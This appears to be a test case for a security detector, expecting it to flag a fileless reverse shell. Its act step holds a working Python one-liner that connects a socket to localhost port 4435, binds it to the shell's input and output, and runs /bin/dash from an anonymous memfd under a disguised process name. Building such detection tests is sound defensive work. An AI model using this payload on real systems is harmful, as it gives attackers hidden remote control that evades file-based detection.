# R15c: a shell that has no file
# stage: behaviour
# expect: reverse_shell_detected
#   detection.reason: ~outbound
#   reverse_shell.process_list.length: 1
#   reverse_shell.process_list.0.process_id: $shell
#   reverse_shell.process_list.0.network_connection_list.0.destination_port: 4435

#: prepare
. lib/peers.sh
peer 4435
#: act
. lib/peers.sh
act
python3 -c '
import os, socket
s = socket.create_connection(("127.0.0.1", 4435))
for fd in 0, 1, 2: os.dup2(s.fileno(), fd)
program = os.memfd_create("cache")
os.write(program, open("/bin/dash", "rb").read())
os.execve(program, ["cache-worker"], {})' < /dev/null > /dev/null 2>&1 & fact shell $!
await 'at $shell ../exe /memfd:* && at $shell 0 socket:*'
